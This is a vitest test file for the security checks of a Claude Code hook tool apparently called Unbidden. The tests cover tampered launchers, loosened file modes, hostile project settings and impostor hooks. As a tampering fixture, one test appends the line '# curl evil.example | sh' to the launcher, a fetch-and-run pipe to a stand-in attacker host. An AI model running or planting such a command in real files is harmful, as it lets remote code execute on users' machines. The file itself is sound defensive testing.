import { chmodSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import type { Standing } from "../support/command.ts";
import { throwAwayHomes } from "../support/home.ts";
import { unbidden } from "../support/resident.ts";

const newHome = throwAwayHomes();

interface Line {
  readonly name: string;
  readonly state: string;
  readonly finding: string;
  readonly remedy: string;
}

function look(here: Standing): { exitCode: number | null; bad: string[]; checks: Line[] } {
  const { exitCode, stdout } = unbidden(here, "doctor", "--security", "--json");
  const { checks } = JSON.parse(stdout) as { checks: Line[] };
  return {
    exitCode,
    checks,
    bad: checks.filter(({ state }) => state === "problem").map(({ finding }) => finding),
  };
}

/** A person with Unbidden installed, in a project with these files. */
function installed(files: Readonly<Record<string, string>> = {}): Standing {
  const home = newHome();
  const here = { home, cwd: home.project("heron", { ".git/config": "", ...files }) };
  unbidden(here, "install", "claude-code");
  unbidden(here, "add", "Herons are counted at dawn");
  return here;
}

test("an installation as Unbidden makes it holds in every line, with one JSON object and exit code 0", () => {
  const { exitCode, checks, bad } = look(installed());
  expect([exitCode, bad]).toEqual([0, []]);
  expect(checks.map(({ name }) => name)).toEqual([
    ...["folders above", "home", "secrets", "trust", "risky commands"],
    ...["launcher", "hooks", "place of the home", "project settings", "HTTP"],
  ]);
});

test("a launcher that somebody changed is told, and not mended before anybody sees it", () => {
  const here = installed();
  const launcher = join(here.home.unbidden, "bin", "unbidden-hook");
  const changed = `${readFileSync(launcher, "utf8")}# curl evil.example | sh\n`;
  writeFileSync(launcher, changed);
  const { exitCode, bad } = look(here);
  expect([exitCode, bad]).toEqual([1, [expect.stringContaining("is not what this version writes")]]);
  expect(readFileSync(launcher, "utf8")).toBe(changed);
});

test("a hook that is no longer whole is told", () => {
  const here = installed();
  const settings = join(here.home.user, ".claude", "settings.json");
  writeFileSync(settings, readFileSync(settings, "utf8").replaceAll(/"timeout": \d+/g, '"timeout": 1'));
  expect(look(here).bad).toEqual([expect.stringContaining("outdated entry of ours")]);
});

test("a mode that others can read through is told, and closed by the usual doctor", () => {
  const here = installed();
  chmodSync(join(here.home.unbidden, "unbidden.db"), 0o644);
  expect(look(here).bad).toEqual([expect.stringContaining("unbidden.db is open to others (0644)")]);
  unbidden(here, "doctor");
  expect(look(here).bad).toEqual([]);
});

test("a home that is open to others is to be closed, not moved out of a repository", () => {
  const here = installed();
  chmodSync(here.home.unbidden, 0o755);
  const place = look(here).checks.find(({ name }) => name === "place of the home");
  expect(place).toMatchObject({
    state: "problem",
    remedy: expect.stringContaining("unbidden doctor`, which closes it"),
  });
  unbidden(here, "doctor");
  expect(look(here).bad).toEqual([]);
});

const withEnv = (env: Record<string, string>) => ({ ".claude/settings.json": JSON.stringify({ env }) });

test.each([
  ["its home", { UNBIDDEN_HOME: "/proc/self/cwd/.cache/ub" }, "settings.json names the home"],
  ["a language model", { UNBIDDEN_DISTILL_PROVIDER: "openai" }, "UNBIDDEN_DISTILL_PROVIDER is ignored"],
  ["what is removed", { UNBIDDEN_RETENTION_MAX_EVENTS: "1" }, "UNBIDDEN_RETENTION_MAX_EVENTS is ignored"],
])("a project's settings that choose %s are told", (_what, env, finding) => {
  expect(look(installed(withEnv(env))).bad).toEqual([expect.stringContaining(finding)]);
});

test("what a project's settings may set is a note", () => {
  const { exitCode, checks } = look(installed(withEnv({ UNBIDDEN_GATE_THRESHOLD: "0.9" })));
  expect(exitCode).toBe(0);
  expect(checks.filter(({ state }) => state === "note").map(({ finding }) => finding)).toEqual([
    "~/heron/.claude/settings.json sets UNBIDDEN_GATE_THRESHOLD for sessions here, within their ranges",
  ]);
});

test("a project's hook that only bears our name is told", () => {
  const command = "./tools/unbidden-hook claude-code";
  const hooks = { Stop: [{ hooks: [{ type: "command", command }] }] };
  const here = installed({ ".claude/settings.json": JSON.stringify({ hooks }) });
  expect(look(here).bad).toContainEqual(expect.stringContaining(`did not install: ${command}`));
});

test("a home in a work tree is told, with a way out that fits whether or not a variable names it", () => {
  const home = newHome();
  const cwd = home.project("heron", { ".git/config": "" });
  const told = (env: Record<string, string>) => {
    const here = { home, cwd, env };
    unbidden(here, "add", "Herons are counted at dawn");
    return look(here).checks.find(({ name }) => name === "place of the home");
  };
  const named = told({ UNBIDDEN_HOME: join(cwd, ".cache") });
  expect(named?.finding).toMatch(/is in the (?:project|work tree)/);
  expect(named?.remedy).toMatch(/^let UNBIDDEN_HOME name .*, or unset it; if it was committed/);
  expect(told({ HOME: cwd, UNBIDDEN_HOME: "" })?.remedy).toMatch(/^move it .* name its new place; if it was/);
});
